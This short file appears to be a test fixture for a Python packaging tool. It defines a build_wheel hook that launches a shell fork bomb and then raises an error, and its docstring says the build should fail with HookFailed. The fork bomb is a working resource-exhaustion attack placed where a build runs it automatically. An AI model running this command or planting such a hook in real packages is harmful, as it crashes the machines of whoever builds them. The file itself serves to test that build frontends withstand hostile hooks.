"""
tries: processes that start two of their kind each, and never wait
must: HookFailed
says: ValueError: the bomb is over
"""
import subprocess


def build_wheel(directory, settings=None, metadata=None):
    subprocess.call(["sh", "-c", "bomb() { bomb | bomb & }; bomb; sleep 2"])
    raise ValueError("the bomb is over")
